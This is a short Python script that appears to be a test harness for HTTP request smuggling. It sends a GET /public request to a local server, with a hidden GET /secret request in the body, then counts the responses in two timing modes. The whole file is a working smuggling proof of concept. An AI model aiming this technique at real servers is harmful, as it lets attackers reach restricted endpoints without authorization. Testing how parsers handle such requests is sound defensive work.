"""smuggle_client.py PORT MODE - one connection to a server that ignores GET
bodies, carrying a request hidden in a GET's Content-Length body.

MODE "together": GET /public (body: GET /secret) and GET /after (with
Connection: close) in one write. MODE "wait": the GET /public first; once
both of its answers are in (the server answered /public and the hidden
/secret), GET /after. Prints the number of responses received. Every read
is bounded by a 5 s timeout.
"""
import socket
import sys

port, mode = int(sys.argv[1]), sys.argv[2]
hidden = b"GET /secret HTTP/1.1\r\nHost: x\r\n\r\n"
first = (b"GET /public HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(hidden)) + hidden
after = b"GET /after HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"

s = socket.create_connection(("127.0.0.1", port), timeout=5)
got = b""
if mode == "together":
    s.sendall(first + after)
else:
    s.sendall(first)
    while got.count(b"HTTP/1.1 200") < 2 or not got.endswith(b"sec\n"):
        chunk = s.recv(65536)
        if not chunk:
            break
        got += chunk
    s.sendall(after)
while True:
    chunk = s.recv(65536)
    if not chunk:
        break
    got += chunk
s.close()
print(got.count(b"HTTP/1.1 200 OK"))
